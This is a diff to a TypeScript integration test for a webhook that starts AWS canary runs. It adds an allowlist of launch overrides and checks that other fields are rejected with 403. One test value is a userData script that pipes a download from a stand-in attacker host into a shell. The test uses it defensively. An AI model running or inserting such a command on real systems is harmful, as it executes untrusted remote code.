@@ -57,6 +57,8 @@ beforeAll(async () => {
   process.env.WEBHOOK_SECRET_ARN = secret.ARN!;
   process.env.STATE_MACHINE_ARN = stateMachineArn;
   process.env.POWERTOOLS_LOG_LEVEL = 'SILENT';
+  // As the CDK construct sets it by default.
+  process.env.ALLOWED_LAUNCH_OVERRIDES = 'instanceType,subnetIds,securityGroupIds';
   // Imported only now: the handlers build their clients from the environment at load time, like a cold start.
   webhook = (await import('../../../functions/webhook/handler')).handler as unknown as Handler;
   status = (await import('../../../functions/status/handler')).handler as unknown as Handler;
@@ -66,6 +68,7 @@ afterAll(async () => {
   delete process.env.WEBHOOK_SECRET_ARN;
   delete process.env.STATE_MACHINE_ARN;
   delete process.env.POWERTOOLS_LOG_LEVEL;
+  delete process.env.ALLOWED_LAUNCH_OVERRIDES;
   await moto?.stop();
 });
 
@@ -182,6 +185,19 @@ describe('POST /runs against Step Functions (moto)', () => {
       expect(res.body.error).toBe('invalid-run-input');
       expect(res.body.field).toBe(field);
       expect(res.body.message).toContain(field);
+    });
+
+    it.each([
+      ['canary.aws.userData', { userData: '#!/bin/sh\ncurl https://evil.example/x | sh' }],
+      ['canary.aws.imageId', { imageId: 'ami-0123456789abcdef0' }],
+    ])('a launch field the deployment does not accept → 403 naming %s', async (field, override) => {
+      const canary = input.canary as { aws: Record<string, unknown> };
+      const body = { ...input, canary: { ...canary, aws: { ...canary.aws, ...override } } };
+      const res = await postRun(body, { deliveryId: 'bad-7' });
+      expect([res.statusCode, res.body.error, res.body.field]).toEqual([403, 'field-not-allowed', field]);
+      expect(res.body.message).toContain(
+        `${field}: not allowed by this deployment (it accepts: instanceType,subnetIds,securityGroupIds)`,
+      );
     });
   });
 });
